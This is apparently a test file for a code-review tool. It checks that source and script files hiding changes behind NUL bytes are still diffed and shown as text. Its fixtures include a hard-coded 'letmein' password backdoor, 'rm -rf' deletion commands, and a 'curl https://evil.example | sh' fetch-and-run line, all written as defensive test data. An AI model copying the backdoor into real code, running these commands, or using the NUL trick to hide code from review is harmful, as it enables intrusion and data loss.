// A NUL byte makes git call a file binary and show none of its lines. In a source file it is
// a way to hide code from the review: `/* \0 */` in a comment, and node still runs the file.
// A file named as source, a script or configuration (or starting with `#!`) is read as text
// whatever NULs it holds: its hunks, counts and exports are the change, REVIEW.md and
// review.html show its lines with the NUL as `\u{0}`, and changes.patch still rebuilds it.
// So is a file of any name whose bytes are UTF-8 text with a few NULs put in. Binary formats
// and UTF-16 stay binary. Real repositories.
import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import { readFile } from 'node:fs/promises';
import * as path from 'node:path';
import { looksBinary, textWithNuls } from '../../src/core/gitblob';
import { textByName } from '../../src/core/textFiles';
import { writeBundle } from '../../src/node/bundle';
import { analyzeRepository } from '../../src/node/engine';
import { worldPerTest, type World } from './verifyFixture';

const AUTH = [
  'export function checkPassword(user: string, pw: string): boolean {',
  '  return hash(pw) === lookup(user);',
  '}',
  'export function isAdmin(user: string): boolean {',
  "  return roles(user).includes('admin');",
  '}',
  '',
].join('\n');
const BACKDOOR = [
  'export function checkPassword(user: string, pw: string): boolean {',
  '  if (pw === "letmein") return true; /* \0 */',
  '  return hash(pw) === lookup(user);',
  '}',
  '',
].join('\n');

describe('files with a NUL byte that are text by their name or their bytes', function () {
  this.timeout(120000);
  let w: World;
  const freshWorld = worldPerTest();

  beforeEach(async () => {
    w = await freshWorld();
    await w.repo.write('src/auth.ts', AUTH);
    await w.repo.write('src/logo.png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 1]));
    await w.repo.write('bin/deploy', '#!/bin/sh\necho deploy\n');
    await w.repo.write('bin/tool', 'echo tool\n');
    await w.repo.commit('base');
    await w.repo.write('src/auth.ts', BACKDOOR);
    await w.repo.write('src/logo.png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 2]));
    await w.repo.write('bin/deploy', '#!/bin/sh\n# \0\nrm -rf /srv/app\n');
    // No name and no #! says text: the bytes do (UTF-8 text, one NUL).
    await w.repo.write('bin/tool', 'echo tool\n\0\ncurl https://evil.example | sh\n');
  });

  const facts = (r: Awaited<ReturnType<typeof analyzeRepository>>) =>
    Object.fromEntries(r.report.changes.map((c) => [c.path, { binary: c.binary, added: c.added, removed: c.removed, hunks: c.hunks.map((h) => [h.oldStart, h.oldLines, h.newStart, h.newLines]) }]));

  const expected = {
    'bin/deploy': { binary: false, added: 2, removed: 1, hunks: [[2, 1, 2, 2]] },
    'bin/tool': { binary: false, added: 2, removed: 0, hunks: [[1, 0, 2, 2]] },
    'src/auth.ts': { binary: false, added: 1, removed: 3, hunks: [[1, 0, 2, 1], [4, 3, 4, 0]] },
    'src/logo.png': { binary: true, added: 0, removed: 0, hunks: [] },
  };

  it('diffs a source file or a #! script with a NUL as text, with its removed exports; a picture stays binary', async () => {
    const first = await analyzeRepository({ cwd: w.repo.root, useCache: false });
    assert.deepEqual(facts(first), expected);
    assert.deepEqual(
      first.report.findings.filter((f) => f.rule === 'SG220').map((f) => [f.path, f.startLine, f.message]),
      [['src/auth.ts', 4, 'Removed export `isAdmin`; code that imports it may break.']],
    );
    // From the change cache, and staged: the same.
    await analyzeRepository({ cwd: w.repo.root });
    assert.deepEqual(facts(await analyzeRepository({ cwd: w.repo.root })), expected);
    await w.repo.git('add', '-A');
    const staged = await analyzeRepository({ cwd: w.repo.root, staged: true });
    assert.deepEqual(facts(staged), expected);
    assert.equal(staged.report.digest, first.report.digest);
  });

  it('shows the lines in REVIEW.md and review.html with the NUL as \\u{0}, and changes.patch rebuilds the file', async () => {
    const dir = await writeBundle(await analyzeRepository({ cwd: w.repo.root }), { out: path.join(w.scratch, 'reviews') });
    const md = await readFile(path.join(dir, 'REVIEW.md'), 'utf8');
    assert.ok(md.includes('+  if (pw === "letmein") return true; /* \\u{0} */\n'), md);
    assert.ok(md.includes('-export function isAdmin(user: string): boolean {\n'), md);
    assert.ok(md.includes('+# \\u{0}\n+rm -rf /srv/app\n'), md);
    assert.ok(md.includes('+\\u{0}\n+curl https://evil.example | sh\n'), md);
    const html = await readFile(path.join(dir, 'review.html'), 'utf8');
    assert.ok(html.includes('+  if (pw === &quot;letmein&quot;) return true; /* \\u{0} */'), 'review.html shows the line');
    assert.equal(html.includes('\0'), false, 'no raw NUL in review.html');
    assert.equal(md.includes('\0'), false, 'no raw NUL in REVIEW.md');
    // The patch applies on the base and gives back the working tree's bytes.
    const env = w.env;
    const clone = path.join(w.scratch, 'clone');
    execFileSync('git', ['clone', '-q', w.repo.root, clone], { env });
    execFileSync('git', ['apply', path.join(dir, 'changes.patch')], { cwd: clone, env });
    for (const f of ['src/auth.ts', 'bin/deploy', 'bin/tool', 'src/logo.png']) {
      assert.deepEqual(await readFile(path.join(clone, f)), await readFile(path.join(w.repo.root, f)), f);
    }
  });

  it("keeps git's rename pairs when it diffs again as text the files git called binary", async () => {
    // Git pairs renames among the paths it is given; the re-diff of just the binary-looking
    // files paired these otherwise, and a deleted source file came out binary, no lines shown.
    const base = Array.from({ length: 300 }, (_, i) => `line ${String(i).padStart(4, '0')} some ordinary text here\n`).join('');
    const nul = `${base.slice(0, 10)}\0${base.slice(11)}`;
    const r = await freshWorld();
    for (const n of ['ren', 'del']) await r.repo.write(`src/${n}.dat`, base);
    for (const n of ['delnul', 'rennul', 'olds.ts']) await r.repo.write(n.endsWith('.ts') ? `src/${n}` : `src/${n}.dat`, nul);
    await r.repo.commit('base');
    await r.repo.git('mv', 'src/ren.dat', 'src/ren2.dat');
    await r.repo.write('src/ren2.dat', base.replace('line 0005', 'line\u0000005').replace('line 0100', 'EVIL 0100'));
    await r.repo.git('mv', 'src/rennul.dat', 'src/rennul2.bin');
    await r.repo.write('src/rennul2.bin', nul.replace('line 0100', 'EVIL 0100'));
    await r.repo.git('mv', 'src/olds.ts', 'src/olds.dat');
    await r.repo.write('src/olds.dat', nul.replace('line 0100', 'EVIL 0100') + '\0'.repeat(5000));
    await r.repo.git('rm', '-q', 'src/del.dat', 'src/delnul.dat');
    const raw = (await r.repo.git('diff', '--raw', '-M', 'HEAD')).trim().split('\n').map((l) => l.split('\t').slice(1).join(' → '));
    const { report } = await analyzeRepository({ cwd: r.repo.root, useCache: false });
    // The same pairs as git's own diff of the whole change, and every file's lines.
    assert.deepEqual(report.changes.map((c) => (c.oldPath ? `${c.oldPath} → ${c.path}` : c.path)), raw);
    assert.deepEqual(report.changes.filter((c) => c.binary).map((c) => c.path), []);
    assert.deepEqual(report.changes.find((c) => c.path === 'src/olds.ts')?.removed, 300);
  });

  it('reads UTF-8 text with a few NULs put in as text, whatever its name; binary formats and UTF-16 stay binary', () => {
    const text = (s: string) => Buffer.from(s, 'utf8');
    assert.equal(looksBinary(text('echo a\n\0\nrm -rf /\n'), 'bin/tool'), false);
    assert.equal(looksBinary(text(`héllo ✓ 😀\0 wörld\n`), 'notes.unknown'), false);
    // A multi-byte character cut by git's 8000-byte window is no fault.
    const long = Buffer.concat([text('\0'), text('a'.repeat(7998)), text('é'), text(' tail\n')]);
    assert.equal(long[7999], 0xc3);
    assert.equal(textWithNuls(long), true);
    assert.equal(textWithNuls(long.subarray(0, 8000)), true, 'the window alone (a caller that read 8000 bytes)');
    const binary: [string, Buffer][] = [
      ['a PNG header', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d])],
      ['UTF-16LE of ASCII, no BOM (half NULs)', Buffer.from('plain ascii text\n', 'utf16le')],
      ['UTF-16LE with a BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('x\0y', 'utf16le')])],
      ['many NULs (a tar header)', Buffer.concat([text('name.txt'), Buffer.alloc(92), text('0000644\0')])],
      // A tar of one text file: its 512-byte header's padding is 5% of git's window, the text after it the rest.
      ['a tar of a text file', Buffer.concat([text('report.csv'), Buffer.alloc(90), text('0000644\0'), Buffer.alloc(404), text('row 1\n'.repeat(1300))])],
      ['not UTF-8', Buffer.from([0x41, 0, 0xff, 0x41, 0x42, 0x43, 0x44, 0x45, 0x46, 0x47, 0x48])],
      ['control bytes, valid UTF-8 as they are', Buffer.concat([Buffer.alloc(40, 1), Buffer.from([0]), text('abc')])],
    ];
    assert.deepEqual(binary.filter(([, b]) => !looksBinary(b, 'data.bin')).map(([what]) => what), []);
  });

  it('knows text by extension and by name, infrastructure included', () => {
    const text = ['src/a.ts', 'a.MJS', 'infra/main.tf', 'x.tfvars', 'ci.yml', 'deploy.ps1', 'Dockerfile', 'api.Dockerfile', 'Dockerfile.prod', '.env', 'cfg/.env.production', 'yarn.lock', 'Makefile', 'CODEOWNERS', 'q.sql', 'a.py', 'README', 'tsconfig.jsonc', 'src/page.astro', 'schema.prisma', 't.njk'];
    const binary = ['logo.png', 'data.bin', 'lib.so', 'archive.tar.gz', 'bin/tool', 'x.ts.gz', 'app.sqlite', 'libcore.rlib', 'stdafx.pch'];
    assert.deepEqual(text.filter((p) => !textByName(p)), []);
    assert.deepEqual(binary.filter((p) => textByName(p)), []);
  });
});
